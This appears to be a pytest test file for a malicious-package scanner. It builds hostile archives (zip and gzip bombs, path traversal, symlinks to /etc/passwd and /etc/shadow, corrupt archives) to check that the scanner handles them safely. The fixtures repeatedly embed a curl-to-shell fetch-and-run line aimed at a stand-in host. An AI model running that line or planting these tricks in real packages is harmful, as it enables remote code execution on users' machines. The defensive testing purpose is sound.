"""Hostile packages end to end: each bad package gets a clear error or a skip with a reason,
and the scan of the other packages goes on.

Most tests put one hostile artifact beside a known-good sdist in a temporary directory, scan
the directory with :func:`pkgvet.pipeline.scan_path`, and check that there are two results and
that the good package was fully analysed (see ``hostile_archives.scan_beside_good``). Every
input is built here; nothing is extracted or executed.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import os
import subprocess
import sys
import tarfile
import threading
import time
from pathlib import Path

import pytest

from conftest import make_tar, make_zip, sdist
from hostile_archives import (
    GOOD_NAME,
    GOOD_SDIST,
    ZipEntry,
    assert_analysed,
    encrypted_zip,
    make_raw_tar,
    make_raw_zip,
    no_writes,
    scan_beside_good,
    tar_member,
    tree_snapshot,
    zip_symlink,
)
from pkgvet.analysis.builder import build_context
from pkgvet.archive import read_archive
from pkgvet.config import Limits, ScanConfig
from pkgvet.models import ScanResult, Verdict
from pkgvet.pipeline import scan_bytes, scan_path

MiB = 1024 * 1024
EVIL = "import os\nos.system('curl http://example.invalid/x | sh')\n"


def _sdist(name: str, files: dict[str, str | bytes]) -> bytes:
    return sdist(name, "1.0", files)


def rule_ids(result: ScanResult) -> set[str]:
    return {f.rule_id for f in result.findings}


def assert_error(result: ScanResult, *needles: str) -> None:
    assert result.error, f"expected an error, got skips {result.skips}"
    assert result.verdict is Verdict.ERROR
    assert result.findings == []
    text = result.error.lower()
    assert any(n in text for n in needles), result.error


def assert_skip(result: ScanResult, path_part: str, *needles: str) -> None:
    assert result.error is None, result.error
    hits = [s for s in result.skips if path_part in s.path]
    assert hits, f"no skip for {path_part!r}: {result.skips}"
    assert any(n in s.reason for s in hits for n in needles), hits


# -- limits ---------------------------------------------------------------------------------


def test_total_uncompressed_bytes_over_limit(tmp_path: Path) -> None:
    bad = _sdist("zzbig", {f"f{i}.txt": os.urandom(4000) for i in range(5)})
    config = ScanConfig(limits=Limits(max_total_bytes=10_000))
    result = scan_beside_good(tmp_path, "zzbig-1.0.tar.gz", bad, config)
    assert_error(result, "uncompressed content exceeds 10000 bytes")


@pytest.mark.parametrize("ext", ["tar.gz", "zip"])
def test_member_count_over_limit(tmp_path: Path, ext: str) -> None:
    files = {f"zzmany-1.0/f{i}.txt": b"x" for i in range(20)}
    bad = make_tar(files) if ext == "tar.gz" else make_zip(files)
    config = ScanConfig(limits=Limits(max_members=8))
    result = scan_beside_good(tmp_path, f"zzmany-1.0.{ext}", bad, config)
    assert_error(result, "more than 8 members", "declares 20 members, over 8")


def test_member_over_limit_is_skipped_and_the_rest_analysed(tmp_path: Path) -> None:
    bad = _sdist("zzhuge", {"setup.py": EVIL, "blob.bin": os.urandom(5000)})
    config = ScanConfig(limits=Limits(max_member_bytes=1000))
    result = scan_beside_good(tmp_path, "zzhuge-1.0.tar.gz", bad, config)
    assert_skip(result, "blob.bin", "5000 bytes, over the member limit")
    assert "PV101" in rule_ids(result)


def test_zip_compression_ratio_bomb(tmp_path: Path) -> None:
    bad = make_zip({"zzbomb-1.0/setup.py": EVIL.encode(), "zzbomb-1.0/zeros.bin": bytes(8 * MiB)})
    assert len(bad) < 20_000
    result = scan_beside_good(tmp_path, "zzbomb-1.0.zip", bad)
    assert_error(result, "compression ratio over 200 (possible zip bomb)")


def test_zip_overlapping_entries_bomb(tmp_path: Path) -> None:
    bad = make_raw_zip([ZipEntry(b"zzover-1.0/a.txt", bytes(512 * 1024))], overlap=100)
    config = ScanConfig(limits=Limits(max_total_bytes=8 * MiB))
    result = scan_beside_good(tmp_path, "zzover-1.0.zip", bad, config)
    assert_error(result, "exceeds", "possible decompression bomb")


def _gzip_tar_of_zeros(size: int, count: int = 1, trailing: int = 0) -> bytes:
    """``count`` members of ``size`` zero bytes, then ``trailing`` zero bytes after the tar's
    end-of-archive blocks (the reader drains them to reach the gzip trailer)."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        for i in range(count):
            info = tarfile.TarInfo(f"zzgzbomb-1.0/zeros{i}.bin")
            info.size = size
            tf.addfile(info, io.BytesIO(bytes(size)))
    return gzip.compress(raw.getvalue() + bytes(trailing), 9)


@pytest.mark.parametrize(("shape", "limits", "needle"), [
    ((24 * MiB, 1, 0), Limits(), "compression ratio over 200"),
    ((24 * MiB, 1, 0), Limits(max_total_bytes=2 * MiB),
     "a member declares 25165824 bytes, over the total limit"),
    ((1024, 1, 24 * MiB), Limits(max_total_bytes=2 * MiB),
     "decompressed stream exceeds the total size limit"),
    ((MiB + MiB // 2, 16, 0), Limits(max_total_bytes=2 * MiB, max_member_bytes=MiB),
     "decompressed stream exceeds"),
], ids=["ratio", "declared-size", "trailing-zeros", "skipped-members"])
def test_gzip_stream_bomb(tmp_path: Path, shape: tuple[int, int, int], limits: Limits,
                          needle: str) -> None:
    bad = _gzip_tar_of_zeros(*shape)
    assert len(bad) < 100_000
    result = scan_beside_good(tmp_path, "zzgzbomb-1.0.tar.gz", bad, ScanConfig(limits=limits))
    assert_error(result, needle)


def _zip_in_zip_in_zip() -> bytes:
    level3 = make_zip({"deepest.py": EVIL.encode()})
    level2 = make_zip({"level3.zip": level3})
    level1 = make_zip({"level2.zip": level2})
    return make_zip({"zznest-1.0/level1.zip": level1, "zznest-1.0/setup.py": b"X = 1\n"})


def test_nesting_deeper_than_max_nesting_is_not_read(tmp_path: Path) -> None:
    result = scan_beside_good(tmp_path, "zznest-1.0.zip", _zip_in_zip_in_zip())
    assert result.error is None
    assert not any("deepest.py" in f.path for f in result.findings)
    deeper = scan_beside_good(tmp_path / "more", "zznest-1.0.zip", _zip_in_zip_in_zip(),
                              ScanConfig(limits=Limits(max_nesting=3)))
    assert any(f.path.endswith("level3.zip!deepest.py") for f in deeper.findings)


def test_nesting_deeper_than_max_nesting_gives_a_skip(tmp_path: Path) -> None:
    result = scan_beside_good(tmp_path, "zznest-1.0.zip", _zip_in_zip_in_zip())
    assert_skip(result, "level3.zip", "nest")


# -- member kinds and paths -----------------------------------------------------------------


@pytest.mark.parametrize(("ext", "name", "needle"), [
    ("tar.gz", "../evil.py", "not read: path traversal"),
    ("zip", "../evil.py", "not read: path traversal"),
    ("tar.gz", "zzpath-1.0/../../evil.py", "not read: path traversal"),
    ("tar.gz", "/etc/x", "not read: absolute path"),
    ("zip", "/etc/x", "not read: absolute path"),
])
def test_escaping_paths(tmp_path: Path, ext: str, name: str, needle: str) -> None:
    files = {"zzpath-1.0/setup.py": b"X = 1\n", name: EVIL.encode()}
    bad = make_tar(files) if ext == "tar.gz" else make_zip(files)
    result = scan_beside_good(tmp_path, f"zzpath-1.0.{ext}", bad)
    assert_skip(result, name, needle)
    assert "PV806" in rule_ids(result)  # reported as an archive anomaly
    assert "PV102" not in rule_ids(result)  # the escaping member was never read


def test_tar_symlink_and_hard_link(tmp_path: Path) -> None:
    bad = make_raw_tar([
        tar_member("zzlink-1.0/setup.py", b"X = 1\n"),
        tar_member("zzlink-1.0/passwd.py", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
        tar_member("zzlink-1.0/hard.py", kind=tarfile.LNKTYPE, linkname="/etc/shadow"),
    ])
    result = scan_beside_good(tmp_path, "zzlink-1.0.tar.gz", bad)
    assert_skip(result, "passwd.py", "not followed: symbolic link")
    assert_skip(result, "hard.py", "not followed: hard link")
    anomalies = {f.message for f in result.findings if f.rule_id == "PV806"}
    assert anomalies == {"symbolic link to /etc/passwd", "hard link to /etc/shadow"}


def test_zip_symlink(tmp_path: Path) -> None:
    bad = make_raw_zip([ZipEntry(b"zzlink-1.0/setup.py", b"X = 1\n"),
                        zip_symlink("zzlink-1.0/passwd.py", "/etc/passwd")])
    result = scan_beside_good(tmp_path, "zzlink-1.0.zip", bad)
    assert_skip(result, "passwd.py", "not followed: symbolic link")
    assert "PV806" in rule_ids(result)


@pytest.mark.parametrize("kind", [tarfile.CHRTYPE, tarfile.BLKTYPE, tarfile.FIFOTYPE])
def test_tar_device_and_fifo(tmp_path: Path, kind: bytes) -> None:
    bad = make_raw_tar([tar_member("zzdev-1.0/setup.py", EVIL.encode()),
                        tar_member("zzdev-1.0/null", kind=kind)])
    result = scan_beside_good(tmp_path, "zzdev-1.0.tar.gz", bad)
    assert_skip(result, "null", "not read: device, fifo or special member")
    assert "PV101" in rule_ids(result)


def _tar_declaring_size(size_field: bytes, compress: bool = True) -> bytes:
    """A tar.gz whose first member header declares ``size_field`` (checksum fixed)."""
    raw = bytearray(make_tar({"zzsize-1.0/setup.py": EVIL.encode(),
                              "zzsize-1.0/PKG-INFO": b"Name: zzsize\n"}, "w"))
    raw[124:136] = size_field
    raw[148:156] = b" " * 8
    raw[148:156] = b"%06o\x00 " % (sum(raw[:512]) & 0o777777)
    return gzip.compress(bytes(raw)) if compress else bytes(raw)


def test_member_declaring_a_large_size_is_skipped(tmp_path: Path) -> None:
    bad = _tar_declaring_size(b"%011o\x00" % (256 * MiB))  # 256 MiB declared, 150 bytes real
    assert len(bad) < 300
    result = scan_beside_good(tmp_path, "zzsize-1.0.tar.gz", bad)
    assert result.error is None
    assert_skip(result, "setup.py", "over the member limit")
    assert_skip(result, "zzsize-1.0.tar.gz", "truncated or corrupt")


_SCAN_STDIN = ("import sys; from pkgvet.pipeline import scan_bytes; "
               "r = scan_bytes(sys.stdin.buffer.read(), sys.argv[1]); print(r.error or r.skips)")


def test_member_declaring_a_huge_size_does_not_hang() -> None:
    # Regression: a tar header declaring a huge size (base-256, here 2**88 bytes) made
    # tarfile's stream seek loop over empty reads for ~0.5 s per GiB declared, i.e. forever.
    bad = _tar_declaring_size(b"\x80" + b"\xff" * 11)
    # In a subprocess (running pkgvet only, on bytes) so that the hang can be killed; the
    # timeout is generous (a loaded CI machine), since the bug hung for hours, not seconds.
    proc = subprocess.run([sys.executable, "-c", _SCAN_STDIN, "zzsize-1.0.tar.gz"], input=bad,
                          capture_output=True, timeout=60, check=False)
    assert proc.returncode == 0, proc.stderr
    assert b"over the member limit" in proc.stdout or b"declares" in proc.stdout


# -- broken archives ------------------------------------------------------------------------


def _big_sdist() -> bytes:
    files = {"setup.py": EVIL}
    files.update({f"zztrunc/m{i:02}.py": EVIL + "#" + os.urandom(1500).hex() for i in range(20)})
    return _sdist("zztrunc", files)


def test_truncated_gzip_half(tmp_path: Path) -> None:
    data = _big_sdist()
    result = scan_beside_good(tmp_path, "zztrunc-1.0.tar.gz", data[: len(data) // 2])
    if result.error:
        assert_error(result, "corrupt or truncated tar")
    else:
        assert_skip(result, "zztrunc-1.0.tar.gz", "truncated or corrupt", "partial analysis")
        assert "PV102" in rule_ids(result)  # what could be read was analysed


def test_truncated_gzip_header_only(tmp_path: Path) -> None:
    result = scan_beside_good(tmp_path, "zztrunc-1.0.tar.gz", _big_sdist()[:30])
    assert_error(result, "corrupt or truncated tar")


@pytest.mark.parametrize("data", [
    b"PK\x03\x04" + b"garbage" * 200,
    b"PK\x03\x04" + os.urandom(3000),
    make_zip({"zzcorrupt-1.0/setup.py": EVIL.encode()})[:60],
])
def test_corrupt_zip(tmp_path: Path, data: bytes) -> None:
    result = scan_beside_good(tmp_path, "zzcorrupt-1.0.zip", data)
    assert_error(result, "corrupt or truncated zip")


def test_not_an_archive_at_all(tmp_path: Path) -> None:
    result = scan_beside_good(tmp_path, "zzjunk-1.0.tar.gz", b"this is not an archive\n" * 30)
    assert_error(result, "unknown format")


# -- names and encodings ----------------------------------------------------------------------


def test_latin1_member_names_in_tar(tmp_path: Path) -> None:
    bad = make_raw_tar([tar_member("zzlatin-1.0/caf\xe9.py", EVIL.encode()),
                        tar_member("zzlatin-1.0/setup.py", b"X = 1\n")],
                       fmt=tarfile.GNU_FORMAT, encoding="latin-1")
    assert b"caf\xe9.py" in gzip.decompress(bad)
    result = scan_beside_good(tmp_path, "zzlatin-1.0.tar.gz", bad)
    assert result.error is None
    (finding,) = [f for f in result.findings if f.rule_id == "PV102"]
    assert finding.path == "zzlatin-1.0/caf\ufffd.py"


def test_cp437_member_names_in_zip(tmp_path: Path) -> None:
    bad = make_raw_zip([ZipEntry("zzcp-1.0/caf\u00e9.py".encode("cp437"), EVIL.encode()),
                        ZipEntry(b"zzcp-1.0/setup.py", b"X = 1\n")])
    result = scan_beside_good(tmp_path, "zzcp-1.0.zip", bad)
    assert any(f.rule_id == "PV102" and f.path == "zzcp-1.0/caf\u00e9.py"
               for f in result.findings)


def test_control_characters_in_names_are_escaped(tmp_path: Path) -> None:
    bad = _sdist("zzctl", {"setup.py": "X = 1\n", "zzctl/\x1b]0;owned\x07\n.py": EVIL})
    result = scan_beside_good(tmp_path, "zzctl-1.0.tar.gz", bad)
    paths = {f.path for f in result.findings}
    assert "zzctl-1.0/zzctl/\\x1b]0;owned\\x07\\x0a.py" in paths
    assert all(p.isprintable() for p in paths)


LATIN1_PLAIN = "import os\n# caf\xe9\nos.system('caf\xe9')\n".encode("latin-1")
LATIN1_COOKIE = ("# -*- coding: latin-1 -*-\nimport os\nNAME = 'caf\xe9'\nos.system(NAME)\n"
                 ).encode("latin-1")


@pytest.mark.parametrize("source", [LATIN1_PLAIN, LATIN1_COOKIE], ids=["no-cookie", "cookie"])
def test_latin1_sources(tmp_path: Path, source: bytes) -> None:
    with pytest.raises(UnicodeDecodeError):
        source.decode("utf-8")
    result = scan_beside_good(tmp_path, "zzenc-1.0.tar.gz", _sdist("zzenc", {"setup.py": source}))
    assert result.error is None
    assert any(f.rule_id == "PV101" and f.path.endswith("setup.py") for f in result.findings)


def test_latin1_source_with_cookie_is_decoded_as_declared() -> None:
    archive = read_archive(_sdist("zzenc", {"setup.py": LATIN1_COOKIE}), "zzenc-1.0.tar.gz",
                           Limits())
    pkg = build_context(archive, Limits(), time.monotonic() + 30)
    (setup,) = pkg.files
    assert "caf\xe9" in setup.text
    assert setup.tree is not None  # parsed as Python 3, not the tokenizer fallback


@pytest.mark.parametrize("codec", ["idna", "punycode", "undefined"])
def test_coding_cookie_naming_a_strict_codec(tmp_path: Path, codec: str) -> None:
    # Regression: data.decode(enc, 'replace') raised UnicodeError for these codecs, which
    # escaped scan_path and ended the whole scan.
    source = f"# coding: {codec}\nimport os\nos.system('x')\n# \xff\n".encode("latin-1")
    result = scan_beside_good(tmp_path, "zzcodec-1.0.tar.gz",
                              _sdist("zzcodec", {"setup.py": source}))
    assert result.error is None or "decod" in result.error


@pytest.mark.parametrize("codec", ["rot13", "base64", "utf-16", "zlib"])
def test_coding_cookie_naming_odd_codecs(tmp_path: Path, codec: str) -> None:
    source = f"# coding: {codec}\nimport os\nos.system('x')\n# \xff\n".encode("latin-1")
    result = scan_beside_good(tmp_path, "zzcodec-1.0.tar.gz",
                              _sdist("zzcodec", {"setup.py": source}))
    assert result.error is None


# -- sources the parser rejects ---------------------------------------------------------------

PY2_SOURCES = {
    "print": 'import os\nprint "installing"\nos.system("id")\n',
    "exec": 'import os\nexec "x = 1"\nos.system("id")\n',
    "backticks": 'import os\nx = `os.getpid()`\nos.system("id")\n',
    "octal": 'import os\nos.chmod("f", 0777)\nos.system("id")\n',
}


@pytest.mark.parametrize("name", sorted(PY2_SOURCES))
def test_python2_sources_use_the_tokenizer_fallback(tmp_path: Path, name: str) -> None:
    bad = _sdist("zzpy2", {"setup.py": PY2_SOURCES[name]})
    result = scan_beside_good(tmp_path, "zzpy2-1.0.tar.gz", bad)
    assert result.error is None
    assert_skip(result, "setup.py", "analysed with the tokenizer")
    assert any(s.reason.startswith("not valid Python 3 (SyntaxError") for s in result.skips)
    pv101 = [f for f in result.findings if f.rule_id == "PV101"]
    assert pv101 and pv101[0].line == 3 and "os.system" in pv101[0].message


DEEP_SOURCES = {
    "parens-300": "x = " + "(" * 300 + "1" + ")" * 300,
    "plus-100k": "x = " + "+".join(["1"] * 100_000),
    "unary-100k": "x = " + "-" * 100_000 + "1",
    "attributes-50k": "x = a" + ".b" * 50_000,
    "calls-50k": "x = f" + "()" * 50_000,
    "indent-120": "".join(" " * i + "if 1:\n" for i in range(120)) + " " * 120 + "pass",
    "strcat-20k": "x = " + " + ".join(['"a"'] * 20_000),
}


@pytest.mark.parametrize("name", sorted(DEEP_SOURCES))
def test_deeply_nested_expressions_do_not_crash(tmp_path: Path, name: str) -> None:
    source = "import os\nos.system('id')\n" + DEEP_SOURCES[name] + "\n"
    result = scan_beside_good(tmp_path, "zzdeep-1.0.tar.gz", _sdist("zzdeep", {"setup.py": source}))
    assert result.error is None
    assert_skip(result, "setup.py", "analysed with the tokenizer")
    assert any(f.rule_id == "PV101" and f.line == 2 for f in result.findings)


def test_deep_nesting_inside_a_decoded_payload() -> None:
    import base64

    inner = ("x = " + "(" * 300 + "1" + ")" * 300 + "\n").encode()
    source = f"import base64\nexec(base64.b64decode({base64.b64encode(inner)!r}))\n"
    result = scan_bytes(_sdist("zzdeep", {"setup.py": source}), "zzdeep-1.0.tar.gz")
    assert result.error is None
    assert "PV201" in rule_ids(result)


# -- time budget ------------------------------------------------------------------------------


@pytest.mark.parametrize("budget", [0.0, 1e-9])
def test_time_budget(tmp_path: Path, budget: float) -> None:
    d = tmp_path / "pkgs"
    d.mkdir()
    (d / "zzslow-1.0.tar.gz").write_bytes(_big_sdist())
    (d / GOOD_NAME).write_bytes(GOOD_SDIST)
    config = ScanConfig(limits=Limits(time_budget_s=budget))
    results = list(scan_path(d, config))
    assert len(results) == 2  # the scan went on after the first overrun
    for r in results:
        assert_error(r, "time budget")
        assert "exceeded" in (r.error or "")


def test_time_budget_is_per_package() -> None:
    result = scan_bytes(_big_sdist(), "zzslow-1.0.tar.gz",
                        ScanConfig(limits=Limits(time_budget_s=0.0)))
    assert result.error == "time budget of 0s exceeded while parsing; not analysed"
    fine = scan_bytes(_big_sdist(), "zzslow-1.0.tar.gz")
    assert fine.error is None and "PV102" in rule_ids(fine)


# -- encrypted wrappers ----------------------------------------------------------------------


def test_encrypted_zip_wrapping_one_sdist(tmp_path: Path) -> None:
    inner = _sdist("zzwrapped", {"setup.py": EVIL})
    bad = encrypted_zip({"zzwrapped-1.0.tar.gz": inner})
    result = scan_beside_good(tmp_path, "zzwrapped-1.0.zip", bad)
    assert result.error is None
    assert result.kind == "sdist"
    assert result.package.name == "zzwrapped"
    # the inner setup.py is the package's own setup.py: install-time
    assert any(f.rule_id == "PV102" and f.trigger.value == "install" for f in result.findings)


def test_encrypted_zip_wrong_password(tmp_path: Path) -> None:
    bad = encrypted_zip({"zzwrapped-1.0.tar.gz": _sdist("zzwrapped", {"setup.py": EVIL})},
                        password=b"not-infected")
    result = scan_beside_good(tmp_path, "zzwrapped-1.0.zip", bad)
    assert_error(result, "encrypted and the password does not fit")


def test_aes_zip_wrapping_one_sdist(tmp_path: Path) -> None:
    pyzipper = pytest.importorskip("pyzipper")
    buf = io.BytesIO()
    with pyzipper.AESZipFile(buf, "w", compression=pyzipper.ZIP_DEFLATED,
                             encryption=pyzipper.WZ_AES) as zf:
        zf.setpassword(b"infected")
        zf.writestr("zzaes-1.0.tar.gz", _sdist("zzaes", {"setup.py": EVIL}))
    result = scan_beside_good(tmp_path, "zzaes-1.0.zip", buf.getvalue())
    assert result.error is None and "PV102" in rule_ids(result)


# -- formats ---------------------------------------------------------------------------------

_FILES = {"zzfmt-1.0/setup.py": EVIL.encode(),
          "zzfmt-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: zzfmt\nVersion: 1.0\n"}
_WHEEL = {"zzfmt/__init__.py": EVIL.encode(),
          "zzfmt-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: zzfmt\nVersion: 1.0\n"}
_EGG = {"zzfmt/__init__.py": EVIL.encode(),
        "EGG-INFO/PKG-INFO": b"Metadata-Version: 2.1\nName: zzfmt\nVersion: 1.0\n"}


@pytest.mark.parametrize(("filename", "data", "kind"), [
    ("zzfmt-1.0-py3-none-any.whl", make_zip(_WHEEL), "wheel"),
    ("zzfmt-1.0-py3.11.egg", make_zip(_EGG), "egg"),
    ("zzfmt-1.0.zip", make_zip(_FILES), "zip"),
    ("zzfmt-1.0.tar.bz2", make_tar(_FILES, "w:bz2"), "sdist"),
    ("zzfmt-1.0.tgz", make_tar(_FILES, "w:gz"), "sdist"),
    ("zzfmt-1.0.tar.xz", make_tar(_FILES, "w:xz"), "sdist"),
    ("zzfmt-1.0.tar", make_tar(_FILES, "w"), "sdist"),
])
def test_every_format_is_read(tmp_path: Path, filename: str, data: bytes, kind: str) -> None:
    result = scan_beside_good(tmp_path, filename, data)
    assert result.error is None
    assert result.kind == kind
    assert result.package.name == "zzfmt"
    assert "PV102" in rule_ids(result)


# -- directories -----------------------------------------------------------------------------


def test_unpacked_directory_with_symlinks(tmp_path: Path) -> None:
    secret = tmp_path / "outside"
    secret.mkdir()
    (secret / "steal.py").write_text(EVIL)
    pkg = tmp_path / "zzunpacked-1.0"
    pkg.mkdir()
    (pkg / "setup.py").write_text("X = 1\n")
    (pkg / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: zzunpacked\nVersion: 1.0\n")
    (pkg / "steal.py").symlink_to(secret / "steal.py")
    (pkg / "outside").symlink_to(secret, target_is_directory=True)
    with no_writes():
        (result,) = scan_path(pkg)
    assert result.kind == "directory" and result.error is None
    assert_skip(result, "steal.py", "not followed: symbolic link")
    assert_skip(result, "outside", "not followed: symbolic link")
    assert "PV102" not in rule_ids(result)  # the linked file was never read
    assert {f.path for f in result.findings if f.rule_id == "PV806"} == {"steal.py", "outside"}


def _dataset(root: Path) -> dict[str, str]:
    """The pypi-malregistry layout ``name/version/file``; returns target -> package name."""
    def put(rel: str, data: bytes | str) -> None:
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data if isinstance(data, bytes) else data.encode())

    pkg_info = "Metadata-Version: 2.1\nName: {0}\nVersion: 1.0\n"
    put("zzalpha/1.0/zzalpha-1.0.tar.gz", _sdist("zzalpha", {"setup.py": EVIL}))
    put("zzbeta/1.0/zzbeta-1.0/setup.py", EVIL)
    put("zzbeta/1.0/zzbeta-1.0/PKG-INFO", pkg_info.format("zzbeta"))
    put("zzbeta/1.0/zzbeta-1.0/zzbeta/__init__.py", "X = 1\n")
    put("zzgamma/0.1/setup.py", EVIL)
    put("zzdelta/1.0/zzdelta-1.0.zip", make_zip({"zzdelta-1.0/setup.py": EVIL.encode()}))
    put("zzeps/1.0/zzeps-1.0-py3-none-any.whl", make_zip(
        {"zzeps/__init__.py": EVIL.encode(),
         "zzeps-1.0.dist-info/METADATA": pkg_info.format("zzeps").encode()}))
    put("zzzeta/1.0/zzzeta-1.0.tar.bz2", make_tar({"zzzeta-1.0/setup.py": EVIL.encode()}, "w:bz2"))
    put("zzeta/1.0/setup.py", EVIL)
    put("zzeta/1.0/PKG-INFO", pkg_info.format("zzeta"))
    put("zzeta/1.0/zzeta/__init__.py", "X = 1\n")
    put("zzbroken/1.0/zzbroken-1.0.tar.gz", b"\x1f\x8b" + os.urandom(200))
    put(f"zzgood/1.0/{GOOD_NAME}", GOOD_SDIST)
    return {
        "zzalpha/1.0/zzalpha-1.0.tar.gz": "zzalpha",
        "zzbeta/1.0/zzbeta-1.0": "zzbeta",
        "zzgamma/0.1": "",
        "zzdelta/1.0/zzdelta-1.0.zip": "",
        "zzeps/1.0/zzeps-1.0-py3-none-any.whl": "zzeps",
        "zzzeta/1.0/zzzeta-1.0.tar.bz2": "",
        "zzeta/1.0": "zzeta",
        "zzbroken/1.0/zzbroken-1.0.tar.gz": "",
        f"zzgood/1.0/{GOOD_NAME}": "zzgoodpkg",
    }


def test_dataset_layout_one_result_per_package(tmp_path: Path) -> None:
    root = tmp_path / "dataset"
    expected = _dataset(root)
    results = {Path(r.target).relative_to(root).as_posix(): r for r in scan_path(root)}
    assert set(results) == set(expected)
    for target, name in expected.items():
        r = results[target]
        if target.startswith("zzbroken"):
            assert_error(r, "corrupt or truncated tar", "unknown format")
            continue
        assert r.error is None, (target, r.error)
        if name:
            assert r.package.name == name
        if name == "zzgoodpkg":
            assert_analysed(r)
        else:
            assert "PV102" in rule_ids(r), target
    assert results["zzgamma/0.1"].kind == "directory"
    assert results["zzbeta/1.0/zzbeta-1.0"].kind == "directory"


def test_lone_setup_py_target(tmp_path: Path) -> None:
    (tmp_path / "setup.py").write_text(EVIL)
    (result,) = scan_path(tmp_path / "setup.py")
    assert result.kind == "file" and result.error is None
    assert "PV102" in rule_ids(result)


def test_missing_target_is_an_error(tmp_path: Path) -> None:
    from pkgvet.errors import SourceError

    with pytest.raises(SourceError, match="no such file or directory"):
        list(scan_path(tmp_path / "missing"))


@pytest.mark.parametrize("name", ["setup.py", "zzfifo-1.0.tar.gz"])
def test_fifo_target_does_not_hang(tmp_path: Path, name: str) -> None:
    # Regression: scan_target opened a FIFO target for reading and blocked forever.
    fifo = tmp_path / name
    os.mkfifo(fifo)
    out: list[ScanResult] = []
    worker = threading.Thread(target=lambda: out.extend(scan_path(fifo)), daemon=True)
    worker.start()
    worker.join(2)
    hung = worker.is_alive()
    give_up = time.monotonic() + 10
    while worker.is_alive() and time.monotonic() < give_up:  # unblock each blocked open
        with contextlib.suppress(OSError):  # OSError: no reader waiting yet
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(0.05)
    assert not hung, "scanning a FIFO blocked"
    (result,) = out
    assert result.error


# -- nothing is written --------------------------------------------------------------------


def _hostile_collection(d: Path) -> None:
    d.mkdir()
    blobs: dict[str, bytes] = {
        "traversal-1.0.tar.gz": make_tar({"../../evil.py": EVIL.encode(), "/etc/cron.d/x": b"x"}),
        "links-1.0.tar.gz": make_raw_tar([
            tar_member("links-1.0/l", kind=tarfile.SYMTYPE, linkname="/etc/passwd"),
            tar_member("links-1.0/h", kind=tarfile.LNKTYPE, linkname="../../x"),
            tar_member("links-1.0/d", kind=tarfile.CHRTYPE),
            tar_member("links-1.0/f", kind=tarfile.FIFOTYPE)]),
        "zlink-1.0.zip": make_raw_zip([zip_symlink("zlink-1.0/x", "/etc/passwd"),
                                       ZipEntry(b"../evil.py", EVIL.encode())]),
        "bomb-1.0.zip": make_zip({"bomb-1.0/zeros.bin": bytes(8 * MiB)}),
        "gzbomb-1.0.tar.gz": _gzip_tar_of_zeros(16 * MiB),
        "nest-1.0.zip": _zip_in_zip_in_zip(),
        "trunc-1.0.tar.gz": _big_sdist()[:3000],
        "corrupt-1.0.zip": b"PK\x03\x04" + b"garbage" * 100,
        "wrapped-1.0.zip": encrypted_zip(
            {"wrapped-1.0.tar.gz": _sdist("wrapped", {"setup.py": EVIL})}),
        "py2-1.0.tar.gz": _sdist("py2", {"setup.py": PY2_SOURCES["print"]}),
        "deep-1.0.tar.gz": _sdist("deep", {"setup.py": DEEP_SOURCES["plus-100k"]}),
        GOOD_NAME: GOOD_SDIST,
    }
    for name, data in blobs.items():
        (d / name).write_bytes(data)
    unpacked = d / "unpacked" / "1.0"
    unpacked.mkdir(parents=True)
    (unpacked / "setup.py").write_text(EVIL)
    (unpacked / "etc").symlink_to("/etc", target_is_directory=True)


def test_scanning_hostile_archives_writes_nothing(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    pkgs = tmp_path / "pkgs"
    _hostile_collection(pkgs)
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    monkeypatch.chdir(cwd)
    scan_bytes(GOOD_SDIST, GOOD_NAME)  # warm up lazy imports outside the guard
    before = tree_snapshot(tmp_path)
    with no_writes():
        results = list(scan_path(pkgs))
    assert tree_snapshot(tmp_path) == before
    assert os.listdir(cwd) == []
    assert len(results) == 13
    assert sum(1 for r in results if r.error) == 4  # bomb, gzbomb, trunc (header cut), corrupt


def test_write_guard_catches_writes(tmp_path: Path) -> None:
    """The guard used above really fails on writes (a test of the test)."""
    with pytest.raises(AssertionError, match="for writing"), no_writes():
        (tmp_path / "x").write_text("x")
    with pytest.raises(AssertionError, match="wrote"), no_writes():
        os.close(os.open(tmp_path / "y", os.O_CREAT | os.O_WRONLY))
    with pytest.raises(AssertionError, match="wrote"), no_writes():
        os.mkdir(tmp_path / "z")
    with pytest.raises(AssertionError, match="exec of code"), no_writes():
        exec(compile("X = 1", "setup.py", "exec"), {})
